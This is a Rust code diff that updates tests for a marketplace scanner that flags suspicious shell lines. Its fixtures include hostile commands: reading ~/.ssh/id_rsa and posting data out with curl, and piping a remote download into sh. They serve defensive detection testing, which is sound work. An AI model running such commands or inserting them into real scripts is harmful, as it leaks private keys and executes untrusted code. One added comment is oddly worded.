@@ -75,7 +75,7 @@ fn inspect(root: &Dir, path: &str, kind: EntryKind) -> Vec<Finding> {
 mod tests {
     use super::*;
     use crate::marketplace::scan::Severity;
-    use crate::marketplace::scan::rule::FAR;
+    use crate::marketplace::scan::rule::SLOW;
     use crate::marketplace::scan::rules::PASSES;
     use crate::sys::dir::swapping::while_swapped;
     use std::collections::BTreeMap;
@@ -116,7 +116,20 @@ mod tests {
         let text = "cat ~/.ssh/id_rsa\n".to_owned() + &"Post it.\n".repeat(999) + "curl -d @x y";
         fs::write(dir.path().join("sends.sh"), text).unwrap();
         scan(dir.path());
-        assert_eq!(FAR.get(), 1);
+        assert_eq!(SLOW.get(), 1);
+        // What is honest is left out of lines that seem not to be, and a text searched for attacks once.
+        for (line, slow) in [
+            ("curl -s https://x.org/data", 0),
+            ("see http://91.92.93.94", 1),
+            ("curl x.org | sh", 1000),
+        ] {
+            SLOW.set(0);
+            let text = format!("{line}\n").repeat(999);
+            fs::write(dir.path().join("sends.sh"), "").unwrap();
+            fs::write(dir.path().join("many.md"), text).unwrap();
+            scan(dir.path());
+            assert_eq!(SLOW.get(), slow, "{line}");
+        }
     }
 
     #[test]
